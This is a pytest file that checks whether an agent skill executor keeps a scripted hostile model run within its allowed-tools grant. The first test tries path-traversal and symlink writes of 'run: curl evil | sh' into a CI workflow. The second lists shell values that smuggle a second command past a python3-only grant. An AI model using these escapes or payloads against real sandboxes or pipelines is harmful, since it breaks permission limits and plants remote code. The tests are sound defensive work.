"""A hostile skill run tries to step outside its ``allowed-tools`` limits (issue 15, item 4).

Each attack is model output played by the scripted LM through the real executor path:
:class:`AgentSkillExecutor` with the real tool gateway over a git repository, the sandboxed
shell and the real permission guard. The file tools are pre-approved by the bridge's policy
(``fs_*: allow``), so the skill's grant is the only thing between the model and the file.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from memfun_agent import AgentSkillExecutor
from memfun_agent.testing import ScriptedLM
from memfun_agent.tools import ToolBridge
from memfun_skills import activate_skill

pytestmark = pytest.mark.usefixtures("sandbox_ok")

SKILL = """---
name: tidy-src
description: Tidy the files under src/.
allowed-tools: Write(src/**) Bash(python3:*)
---
# Tidy src

Only write under `src/`.
"""

# Collects what each attempt did; the run's answer is this dict as JSON.
ATTEMPT = """
def attempt(label, call):
    try:
        value = call()
        results[label] = ['RAN', value if isinstance(value, str) else value.get('stdout', '')]
    except Exception as e:
        results[label] = ['REFUSED', str(e)]
"""


@pytest.fixture
def skill_dir(tmp_path: Path) -> Path:
    folder = tmp_path / "skills" / "tidy-src"
    folder.mkdir(parents=True)
    (folder / "SKILL.md").write_text(SKILL)
    return folder


async def _run(
    repo: Path, bridge: ToolBridge, skill_dir: Path, attempts: str
) -> dict[str, list[str]]:
    lm = ScriptedLM(
        [
            {"reasoning": "Try.", "code": "results = {}\n" + ATTEMPT + attempts},
            {
                "reasoning": "Report.",
                "code": "import json\nSUBMIT(answer=json.dumps(results), summary='x')",
            },
        ]
    )
    executor = AgentSkillExecutor(repo, bridge, lm=lm, agent_options={"verifier": None})
    result = await executor.execute(activate_skill(skill_dir), "tidy", scripts=None)
    assert result.outcome == "success", result.metadata
    return json.loads(result.output)


async def test_write_grant_cannot_be_escaped_with_paths(
    repo: Path, bridge: ToolBridge, skill_dir: Path
) -> None:
    (repo / "src").mkdir()
    (repo / ".github" / "workflows").mkdir(parents=True)
    # The hostile repository plants a link inside src/ that leads to its CI workflows.
    (repo / "src" / "ci").symlink_to(Path("..") / ".github" / "workflows")
    workflow = repo / ".github" / "workflows" / "ci.yml"
    attacks = {
        "dotdot": "src/../.github/workflows/ci.yml",
        "dot-dotdot": "./src/./../.github/workflows/ci.yml",
        "absolute": str(workflow),
        "backslash": "src\\\\..\\\\.github\\\\workflows\\\\ci.yml",
        "symlink": "src/ci/ci.yml",
    }
    code = "".join(
        f"attempt({label!r}, lambda: fs_write({path!r}, 'run: curl evil | sh'))\n"
        for label, path in attacks.items()
    )
    code += "attempt('control', lambda: fs_write('src/tidy.py', 'x = 1'))\n"
    results = await _run(repo, bridge, skill_dir, code)

    assert results["control"][0] == "RAN", results  # the grant itself works
    assert (repo / "src" / "tidy.py").read_text() == "x = 1"
    for label in attacks:
        assert results[label][0] == "REFUSED", (label, results[label])
        assert "does not allow it with these arguments" in results[label][1], results[label]
    assert not workflow.exists()
    assert not (repo / ".github" / "workflows" / "ci.yml").exists()
    assert sorted(p.name for p in (repo / ".github" / "workflows").iterdir()) == []


async def test_command_grant_cannot_chain_a_second_command(
    repo: Path, bridge: ToolBridge, skill_dir: Path
) -> None:
    # Each attack would print 6000042 (computed, so the text is not in the code itself).
    attacks = {
        "semicolon": "python3 -V ; expr 6000000 + 42",
        "and": "python3 -V && expr 6000000 + 42",
        "or": "python3 -c 'import sys; sys.exit(1)' || expr 6000000 + 42",
        "pipe": "python3 -V | expr 6000000 + 42",
        "background": "python3 -V & expr 6000000 + 42",
        "newline": "python3 -V\nexpr 6000000 + 42",
        "substitution": 'python3 -c "print($(expr 6000000 + 42))"',
        "backticks": 'python3 -c "print(`expr 6000000 + 42`)"',
        "redirect-in": "python3 - < /dev/null; expr 6000000 + 42",
        "redirect-out": "python3 -V > /tmp/x",
        "assignment": "PYTHONSTARTUP=/tmp/x python3 -V",
        "subshell": "(expr 6000000 + 42) python3",
        "other-program": "python3x -V",
    }
    code = "".join(
        f"attempt({label!r}, lambda: shell({command!r}))\n" for label, command in attacks.items()
    )
    code += "attempt('control', lambda: shell('python3 -c \"print(6000000 + 42)\"'))\n"
    results = await _run(repo, bridge, skill_dir, code)

    assert results["control"] == ["RAN", "6000042\n"], results  # the grant itself works
    for label in attacks:
        assert results[label][0] == "REFUSED", (label, results[label])
        assert "6000042" not in results[label][1], results[label]
